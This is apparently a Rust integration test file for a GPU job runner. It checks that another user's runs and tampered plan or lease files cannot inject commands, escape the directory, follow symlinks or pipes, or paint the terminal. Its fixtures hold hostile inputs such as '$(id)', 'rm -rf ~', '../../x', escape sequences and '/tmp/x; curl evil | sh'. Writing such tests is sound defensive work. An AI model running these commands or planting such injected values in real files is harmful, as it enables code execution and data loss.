//! Another user's run is shown as far as it may be read, and believed in nothing: no name reaches the terminal raw or leads out of the
//! directory, and no text of theirs becomes a command to copy.

#![allow(clippy::unwrap_used, clippy::expect_used)] // a test fails by panicking

use std::fs;
use std::os::unix::fs::{PermissionsExt, chown, symlink};
use std::path::{Path, PathBuf};

use gpulane_testkit::{FakeNvml, Gpulane, wait_until};

/// Who looks.
const VICTIM: u32 = 65_101;
/// Whose run it is.
const HOSTILE: u32 = 65_102;

fn gpulane() -> Gpulane {
    Gpulane::new(env!("CARGO_BIN_EXE_gpulane"))
}

/// Gives all that is there to a user, readable by everybody.
fn give(path: &Path, owner: u32) {
    chown(path, Some(owner), Some(owner)).unwrap();
    if path.is_dir() {
        fs::set_permissions(path, fs::Permissions::from_mode(0o755)).unwrap();
        for entry in fs::read_dir(path).unwrap() {
            give(&entry.unwrap().path(), owner);
        }
    } else {
        fs::set_permissions(path, fs::Permissions::from_mode(0o644)).unwrap();
    }
}

/// A run that failed and belongs to another user.
fn theirs(gpulane: &Gpulane) -> PathBuf {
    assert_eq!(gpulane.call(&["run", "--gpus", "none", "--run-dir", "theirs", "--", "false"]).code, 3);
    let path = gpulane.workspace.path().join("theirs");
    give(&path, HOSTILE);
    path
}

/// The plan with a name in it replaced.
fn rename(run: &Path, from: &str, to: &str) {
    let path = run.join("plan.json");
    let text = fs::read_to_string(&path).unwrap();
    let changed =
        text.replace(&format!("\"name\":\"{from}\""), &format!("\"name\":{}", serde_json::json!(to)));
    assert_ne!(text, changed, "{text}");
    fs::write(&path, changed).unwrap();
}

#[test]
fn another_users_run_is_shown_but_never_run_or_suggested() {
    let Some(gpulane) = gpulane().as_user("another_users_run_is_shown_but_never_run_or_suggested", VICTIM)
    else {
        return;
    };
    let run = theirs(&gpulane);
    for words in [
        &["status", "theirs"][..],
        &["status", "theirs", "--all"],
        &["logs", "theirs"],
        &["doctor", "theirs"],
        &["watch", "theirs"],
    ] {
        let seen = gpulane.call(words);
        assert!(seen.code == 0 || words[0] == "doctor" || words[0] == "watch", "{words:?}: {}", seen.stderr);
        let said = seen.stdout + &seen.stderr;
        assert!(!said.contains("resume"), "{words:?}: {said}");
    }
    let journal = fs::read(run.join("journal.jsonl")).unwrap();
    let finished = gpulane.call(&["resume", "theirs", "--failed"]);
    assert_eq!(finished.code, 2, "{}", finished.stderr);
    assert!(finished.stderr.contains("belongs to another user"), "{}", finished.stderr);
    assert_eq!(fs::read(run.join("journal.jsonl")).unwrap(), journal);
    // A file of theirs in a directory of ours.
    assert_eq!(gpulane.call(&["run", "--gpus", "none", "--run-dir", "mine", "--", "false"]).code, 3);
    chown(gpulane.workspace.path().join("mine/plan.json"), Some(HOSTILE), Some(HOSTILE)).unwrap();
    fs::set_permissions(gpulane.workspace.path().join("mine/plan.json"), fs::Permissions::from_mode(0o644))
        .unwrap();
    assert_eq!(gpulane.call(&["resume", "mine", "--failed"]).code, 2);
}

#[test]
fn names_in_a_plan_lead_nowhere_and_paint_nothing() {
    let gpulane = gpulane();
    let names = ["..", "../../x", "a/b", "\u{1b}[2J", "x\nrm -rf ~", "$(id)", ""];
    for (at, name) in names.iter().enumerate() {
        let dir = format!("r{at}");
        let run = ["run", "--gpus", "none", "--run-dir", &dir, "-s", "k=1", "--", "false"];
        assert_eq!(gpulane.call(&run).code, 3);
        rename(&gpulane.workspace.path().join(&dir), "k=1", name);
        for words in [
            &["status", &dir][..],
            &["logs", &dir],
            &["doctor", &dir],
            &["watch", &dir],
            &["resume", &dir, "--failed"],
        ] {
            let seen = gpulane.call(words);
            assert_ne!(seen.code, 0, "{name:?} {words:?}: {}", seen.stdout);
            let said = seen.stdout + &seen.stderr;
            assert!(!said.contains('\u{1b}') && !said.contains("\nrm"), "{words:?}: {said:?}");
            assert!(said.contains("plan.json"), "{words:?}: {said}");
        }
    }
}

#[test]
fn a_plan_that_is_a_pipe_is_not_waited_for() {
    let gpulane = gpulane();
    let dir = gpulane.workspace.path().join("r");
    fs::create_dir(&dir).unwrap();
    let pipe = dir.join("plan.json");
    rustix::fs::mknodat(rustix::fs::CWD, &pipe, rustix::fs::FileType::Fifo, 0o600.into(), 0).unwrap();
    let seen = gpulane.spawn(&["status", "r"]).wait();
    assert_eq!(seen.code, 2, "{}", seen.stderr);
    assert!(seen.stderr.contains("not a regular file"), "{}", seen.stderr);
}

#[test]
fn another_users_lease_is_no_command_to_copy() {
    let test = "another_users_lease_is_no_command_to_copy";
    let (nvml, gpulane) = Gpulane::on(env!("CARGO_BIN_EXE_gpulane"), &["24GiB"]);
    if !rustix::process::geteuid().is_root() {
        return gpulane_testkit::skip(test, "only root can act as several users");
    }
    // The directory is made by a first look at it.
    assert_eq!(gpulane.call(&["run", "--run-dir", "r", "--", "true"]).code, 0);
    let note = nvml.lease_dir().join(format!("{}.4194000.holder", FakeNvml::uuid(0)));
    let run = "/tmp/x; curl evil | sh \u{1b}[31m";
    let text = serde_json::json!({"gpu": FakeNvml::uuid(0), "pid": 4_194_000, "user": "root", "run": run, "since": 1});
    fs::write(&note, text.to_string()).unwrap();
    chown(&note, Some(HOSTILE), Some(HOSTILE)).unwrap();
    let mut held = std::process::Command::new("flock").arg(&note).args(["sleep", "600"]).spawn().unwrap();
    wait_until("the lock is held", || {
        let file = fs::File::open(&note).unwrap();
        rustix::fs::flock(&file, rustix::fs::FlockOperation::NonBlockingLockShared).is_err()
    });
    let seen = gpulane.call(&["doctor", "-v"]);
    let gpus = gpulane.call(&["gpus"]);
    let children = format!("/proc/{0}/task/{0}/children", held.id());
    let sleeper = fs::read_to_string(children).unwrap_or_default();
    held.kill().unwrap();
    held.wait().unwrap();
    for pid in sleeper.split_ascii_whitespace().filter_map(|pid| pid.parse().ok()) {
        let pid = rustix::process::Pid::from_raw(pid).unwrap();
        let _ = rustix::process::kill_process(pid, rustix::process::Signal::KILL);
    }
    let said = seen.stdout + &gpus.stdout;
    assert!(said.contains("curl evil"), "it is seen: {said}");
    assert!(said.contains(&format!("uid {HOSTILE}")), "and whose it is, by the file: {said}");
    assert!(!said.contains("gpulane resume"), "but not to be copied: {said}");
    assert!(!said.contains('\u{1b}'), "{said:?}");
}

#[test]
fn root_who_cancels_a_users_run_writes_to_nothing_else() {
    let test = "root_who_cancels_a_users_run_writes_to_nothing_else";
    let Some(gpulane) = gpulane().as_user(test, VICTIM) else { return };
    let live = gpulane.start("[[stage]]\nname = \"s\"\ncommand = [\"sleep\", \"600\"]\n", "none");
    gpulane.wait_for_events("job_started", 1);
    let precious = gpulane.workspace.file("precious", "mine");
    let bell = gpulane.dir().join("control/bell");
    fs::remove_file(&bell).unwrap();
    symlink(&precious, &bell).unwrap();
    let cancelled = gpulane.call_directly(&["cancel", "r"]);
    assert_eq!(fs::read_to_string(&precious).unwrap(), "mine");
    assert_eq!(cancelled.code, 0, "{}", cancelled.stderr);
    assert!(cancelled.stderr.contains(&format!("belongs to uid {VICTIM}")), "{}", cancelled.stderr);
    assert_ne!(live.wait().code, 0);
}

#[test]
fn nobody_cancels_another_users_run() {
    let test = "nobody_cancels_another_users_run";
    let Some(gpulane) = gpulane().as_user(test, VICTIM) else { return };
    theirs(&gpulane);
    let path = gpulane.workspace.path().join("theirs");
    // As open as can be: it still is not theirs who asks.
    fs::set_permissions(&path, fs::Permissions::from_mode(0o777)).unwrap();
    let lock = fs::File::open(path.join("lock")).unwrap();
    rustix::fs::flock(&lock, rustix::fs::FlockOperation::LockExclusive).unwrap();
    fs::remove_dir_all(path.join("control")).unwrap();
    let asked = gpulane.call(&["cancel", "theirs"]);
    assert_eq!(asked.code, 2, "{}", asked.stderr);
    assert!(asked.stderr.contains("belongs to another user"), "{}", asked.stderr);
    assert!(!path.join("control").exists());
}

/// What members of a group could put in the place of a run's files.
const OPENED: [&str; 5] = ["lock", "engine.log", "journal.jsonl", "plan.json", "jobs/s/n=1/config.json"];

#[test]
fn links_in_the_place_of_a_runs_files_are_not_followed() {
    let gpulane = gpulane();
    let precious = gpulane.workspace.file("precious", "mine\n");
    for name in OPENED {
        let _ = fs::remove_dir_all(gpulane.dir());
        let plan = "[[stage]]\nname = \"s\"\ncommand = [\"false\"]\n[stage.matrix]\nn = [1]\n";
        assert_eq!(gpulane.run(plan, "none").code, 3);
        let file = gpulane.dir().join(name);
        fs::remove_file(&file).unwrap();
        symlink(&precious, &file).unwrap();
        let resumed = gpulane.call(&["resume", "r", "--failed"]);
        assert_ne!(resumed.code, 0, "{name}: {}", resumed.stderr);
        assert!((resumed.stdout + &resumed.stderr).contains("a link"), "{name}: {}", resumed.stderr);
        assert_eq!(fs::read_to_string(&precious).unwrap(), "mine\n", "{name}");
    }
}

#[test]
fn what_is_linked_as_the_place_for_requests_is_not_emptied() {
    let gpulane = gpulane();
    assert_eq!(gpulane.call(&["run", "--gpus", "none", "--run-dir", "r", "--", "false"]).code, 3);
    let precious = gpulane.workspace.file("home/.profile", "mine");
    let also = gpulane.workspace.file("home/settings.json", "mine");
    fs::remove_dir_all(gpulane.dir().join("control")).unwrap();
    symlink("../home", gpulane.dir().join("control")).unwrap();
    assert_eq!(gpulane.call(&["resume", "r", "--failed"]).code, 3);
    assert!(precious.exists() && also.exists());
    assert_eq!(
        fs::read_dir(gpulane.workspace.path().join("home")).unwrap().count(),
        2,
        "nothing is put there"
    );
}

#[test]
fn pipes_in_the_place_of_a_runs_files_keep_nobody_waiting() {
    let gpulane = gpulane();
    for name in ["lock", "engine.log", "journal.jsonl", "stdout.log", "stderr.log"] {
        let _ = fs::remove_dir_all(gpulane.dir());
        assert_eq!(gpulane.call(&["run", "--gpus", "none", "--run-dir", "r", "--", "false"]).code, 3);
        let mut file = gpulane.dir().join(name);
        if name.starts_with("std") {
            let stage = fs::read_dir(gpulane.dir().join("jobs")).unwrap().next().unwrap().unwrap().path();
            let job = fs::read_dir(stage).unwrap().next().unwrap().unwrap().path();
            file = job.join("attempt-1").join(name);
        }
        fs::remove_file(&file).unwrap();
        rustix::fs::mknodat(rustix::fs::CWD, &file, rustix::fs::FileType::Fifo, 0o600.into(), 0).unwrap();
        for words in [&["status", "r"][..], &["logs", "r"], &["doctor", "r"], &["watch", "r"]] {
            gpulane.spawn(words).wait();
        }
        if !name.starts_with("std") {
            let resumed = gpulane.spawn(&["resume", "r", "--failed"]).wait();
            assert_ne!(resumed.code, 0, "{name}");
            assert!(resumed.stderr.contains("a pipe"), "{name}: {}", resumed.stderr);
        }
    }
}

#[test]
fn json_holds_nothing_that_a_terminal_would_obey() {
    let gpulane = gpulane();
    let text = "a\u{9b}31m\u{202e}b\u{2066}\u{7f}";
    let args = [
        "run",
        "--gpus",
        "none",
        "--run-dir",
        "r",
        "--json",
        "--",
        "sh",
        "-c",
        "echo \"Error: $0\" >&2; exit 3",
        text,
    ];
    let run = gpulane.call(&args);
    assert_eq!(run.code, 3, "{run:?}");
    // As if a system had said it.
    let path = gpulane.dir().join("journal.jsonl");
    let mut records: Vec<gpulane_model::Record> = fs::read_to_string(&path)
        .unwrap()
        .lines()
        .map(|line| gpulane_journal::decode(line).unwrap())
        .collect();
    for record in &mut records {
        if let gpulane_model::Event::JobFailed { failure, .. } = &mut record.event {
            failure.message = Some(text.to_owned());
        }
    }
    let lines: Vec<String> = records.iter().map(|record| gpulane_journal::encode(record) + "\n").collect();
    fs::write(&path, lines.concat()).unwrap();
    for args in [
        &["status", "r", "--json"][..],
        &["status", "r", "run/main", "--json"],
        &["watch", "r", "--json"],
        &["doctor", "r", "--json"],
        &["run", "--dry-run", "--json", "--gpus", "none", "--", "echo", text],
    ] {
        let seen = gpulane.call(args);
        let raw = seen
            .stdout
            .chars()
            .find(|c| *c != '\n' && (c.is_control() || ('\u{2028}'..='\u{2069}').contains(c)));
        assert_eq!(raw, None, "{args:?}: {}", seen.stdout);
        for line in seen.stdout.lines() {
            serde_json::from_str::<serde_json::Value>(line)
                .unwrap_or_else(|error| panic!("{args:?}: {error}: {line}"));
        }
        assert!(seen.stdout.contains("\\u202e") || args[0] == "status", "{args:?}: {}", seen.stdout);
    }
}
